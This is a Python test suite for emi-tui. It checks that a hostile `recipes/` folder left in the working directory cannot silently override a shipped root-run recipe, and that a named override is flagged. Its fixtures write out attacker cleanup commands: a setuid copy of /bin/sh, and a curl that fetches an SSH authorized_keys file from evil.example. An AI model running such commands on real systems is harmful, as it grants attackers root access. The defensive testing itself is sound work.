"""A `./recipes` folder in the current directory never replaces a shipped recipe unless it is named.

A recipe's package lists and cleanup commands run as root. The attacker
leaves a `recipes/` folder where root will run emi-tui (a shared project
folder, /tmp), with a recipe named like a shipped one whose cleanup runs
their command. Recipes come from the shipped folder and
~/.config/emi-tui/recipes only; a folder is read when `--recipes DIR` names
it, and a recipe that replaces a shipped one is then named in the plan, by
`emi-tui recipes` and on the wizard's Distro step.
"""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from textual.app import App
from textual.widgets import RadioButton

from emi_tui import cli
from emi_tui.engine import paths
from emi_tui.engine.answers.model import validate_bytes
from emi_tui.engine.answers.recipes import RecipeBook, recipe_dirs
from emi_tui.tui.screens.wizard.distro import DistroScreen
from emi_tui.tui.state.wizard_state import WizardState

SHIPPED = paths.shipped_dir("recipes")
SHIPPED_NAMES = sorted(p.stem for p in SHIPPED.glob("*.yaml"))
CHECKS = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
#: What the hostile recipe's cleanup runs as root (never actually run: these are plans and books).
PAYLOAD = st.lists(st.sampled_from(["cp /bin/sh /tmp/.x", "chmod 4755 /tmp/.x", "curl -o /root/.ssh/authorized_keys http://evil.example/k"]),
                   min_size=1, max_size=3)


def hostile_recipe(name: str, payload: list[str]) -> str:
    """The shipped recipe `name`, with the attacker's commands added to its cleanup and a lure of a description."""
    recipe = yaml.safe_load((SHIPPED / f"{name}.yaml").read_text())
    recipe["cleanup"] = recipe["cleanup"] + [["sh", "-c", command] for command in payload]
    recipe["description"] = "[green]the shipped recipe[/]"
    return yaml.safe_dump(recipe)


def plant(folder: Path, name: str, suffix: str, payload: list[str]) -> Path:
    (folder / "recipes").mkdir(exist_ok=True)
    path = folder / "recipes" / f"{name}{suffix}"
    path.write_text(hostile_recipe(name, payload))
    return path


@pytest.fixture
def config_home(tmp_path, monkeypatch) -> Path:
    """An empty ~/.config of the test's own, so the operator's own recipes do not take part."""
    config = tmp_path / "config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    return config


@CHECKS
@given(name=st.sampled_from(SHIPPED_NAMES), suffix=st.sampled_from([".yaml", ".yml"]), payload=PAYLOAD)
def test_a_recipes_folder_in_the_cwd_is_not_read(config_home, name, suffix, payload):
    with tempfile.TemporaryDirectory(prefix="emi-hostile-cwd-") as cwd:
        planted = plant(Path(cwd), name, suffix, payload)
        before = os.getcwd()
        os.chdir(cwd)
        try:
            dirs, book = recipe_dirs(), RecipeBook()
        finally:
            os.chdir(before)
    assert Path(cwd) / "recipes" not in dirs
    assert book.sources[name] == SHIPPED / f"{name}.yaml"
    assert not any(["sh", "-c", command] in book.recipes[name].cleanup for command in payload)
    assert book.overrides() == {} and planted.name not in [p.name for p in book.sources.values() if p.parent != SHIPPED]


@CHECKS
@given(name=st.sampled_from(SHIPPED_NAMES), suffix=st.sampled_from([".yaml", ".yml"]), payload=PAYLOAD)
def test_a_named_folder_that_replaces_a_shipped_recipe_says_so(config_home, name, suffix, payload):
    with tempfile.TemporaryDirectory(prefix="emi-named-") as folder:
        planted = plant(Path(folder), name, suffix, payload)
        book = RecipeBook.named(Path(folder) / "recipes")
    recipe = book.recipes[name]
    assert book.overrides() == {name: planted}
    assert (recipe.source, recipe.replaces) == (planted, SHIPPED / f"{name}.yaml")


def _env(tmp_path: Path) -> dict[str, str]:
    return dict(os.environ, NO_COLOR="1", COLUMNS="400", XDG_CONFIG_HOME=str(tmp_path / "config"), XDG_DATA_HOME=str(tmp_path / "data"))


def _emi(tmp_path: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "emi_tui", *argv], env=_env(tmp_path), cwd=tmp_path,
                          capture_output=True, text=True, timeout=300, check=False)


def test_the_plan_in_a_hostile_cwd_runs_the_shipped_cleanup_unless_named(tmp_path):
    plant(tmp_path, "debian-based", ".yaml", ["cp /bin/sh /tmp/.x"])
    answers = tmp_path / "a.yaml"
    answers.write_text(f"version: 1\nrecipe: debian-based\nmirror: http://mirror.example/debian\noutput:\n  dir: {tmp_path / 'out'}\n")
    plan = _emi(tmp_path, "build", "--dry-run", "--offline", str(answers))
    assert plan.returncode == 0, plan.stdout + plan.stderr
    assert "/tmp/.x" not in plan.stdout and "warning:" not in plan.stdout
    named = _emi(tmp_path, "build", "--dry-run", "--offline", "--recipes", "recipes", str(answers))
    assert named.returncode == 0, named.stdout + named.stderr
    assert "/tmp/.x" in named.stdout  # named: the operator asked for it
    preflight = named.stdout.split("1. preflight", 1)[1].split("2. bootstrap", 1)[0]
    assert (f"warning: the recipe 'debian-based' comes from {tmp_path / 'recipes' / 'debian-based.yaml'}, "
            f"not the shipped {SHIPPED / 'debian-based.yaml'}") in preflight
    checked = _emi(tmp_path, "validate", "-q", "--recipes", "recipes", str(answers))
    assert checked.returncode == 0 and "warning: the recipe 'debian-based' comes from" in checked.stderr


def test_emi_tui_recipes_names_the_override_only_when_asked_for_the_folder(tmp_path):
    plant(tmp_path, "ubuntu-based", ".yaml", ["cp /bin/sh /tmp/.x"])
    listed = _emi(tmp_path, "recipes")
    assert listed.returncode == 0 and str(tmp_path / "recipes") not in listed.stdout
    assert "the shipped recipe" not in listed.stdout
    named = _emi(tmp_path, "recipes", "--recipes", str(tmp_path / "recipes"))
    assert named.returncode == 0, named.stderr
    # To a pipe each recipe is a block of key: value lines.
    row = next(block for block in named.stdout.split("\n\n") if "name: ubuntu-based" in block.splitlines())
    assert f"file: {tmp_path / 'recipes' / 'ubuntu-based.yaml'} (replaces the shipped one)" in row.splitlines()
    assert "[green]the shipped recipe[/]" in row  # the recipe's own words are printed as text, not markup
    assert f"warning: the recipe 'ubuntu-based' comes from {tmp_path / 'recipes' / 'ubuntu-based.yaml'}" in named.stderr
    missing = _emi(tmp_path, "recipes", "--recipes", "nowhere")
    assert missing.returncode == 2 and "--recipes nowhere: no such folder" in missing.stderr


def test_the_wizard_gets_the_named_folder_and_nothing_else(tmp_path, monkeypatch, config_home):
    plant(tmp_path, "debian-based", ".yaml", ["cp /bin/sh /tmp/.x"])
    monkeypatch.chdir(tmp_path)
    opened: list[dict[str, object]] = []
    monkeypatch.setattr("emi_tui.tui.app.run_app", lambda **kwargs: opened.append(kwargs) or 0)
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True)
    assert cli.main([]) == 0 and cli.main(["--recipes", "recipes"]) == 0
    assert [o["recipes_dir"] for o in opened] == [None, Path("recipes")]


class _DistroApp(App):
    def __init__(self, screen: DistroScreen) -> None:
        super().__init__()
        self._distro = screen

    def on_mount(self) -> None:
        self.push_screen(self._distro)


def test_the_distro_step_names_a_recipe_that_replaces_a_shipped_one(tmp_path, config_home):
    planted = plant(tmp_path, "debian-based", ".yaml", ["cp /bin/sh /tmp/.x"])
    from datetime import date

    async def labels(book: RecipeBook) -> dict[str, str]:
        app = _DistroApp(DistroScreen(WizardState(book, date(2026, 11, 28))))
        async with app.run_test(size=(200, 40)) as pilot:
            await pilot.pause()
            return {str(b.name): str(b.label) for b in app.screen.query(RadioButton) if b.id and b.id.startswith("recipe-")}

    named = asyncio.run(labels(RecipeBook.named(tmp_path / "recipes")))
    assert f"replaces the shipped recipe: {planted}" in named["debian-based"]
    assert not any("replaces" in label for name, label in named.items() if name != "debian-based")
    shipped = asyncio.run(labels(RecipeBook()))
    assert not any("replaces" in label for label in shipped.values())
    result = validate_bytes("version: 1\nrecipe: debian-based\nmirror: http://mirror.example/debian\n", "a.yaml", RecipeBook())
    assert result.recipe is not None and result.recipe.source == SHIPPED / "debian-based.yaml"
